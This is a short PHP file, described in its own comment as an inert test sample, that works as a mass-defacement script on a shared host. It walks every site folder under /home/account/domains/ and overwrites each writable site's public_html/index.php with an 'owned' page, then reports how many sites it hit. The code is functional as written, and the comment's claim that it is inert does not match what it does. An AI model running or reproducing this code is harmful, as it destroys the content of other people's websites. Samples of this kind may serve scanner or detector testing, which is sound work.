<?php
// test sample (inert): every site of the shared host listed, and one page written over the index
// file of each site's web root; nothing comes from the request
$page = "<html><body><h1>owned</h1></body></html>";
$sites = '/home/account/domains/';
$done = array();
foreach (scandir($sites) as $site) {
    if ($site === '.' || $site === '..') {
        continue;
    }
    $target = $sites . $site . '/public_html/index.php';
    if (is_writable(dirname($target))) {
        file_put_contents($target, $page);
        $done[] = $site;
    }
}
echo count($done) . " sites\n";
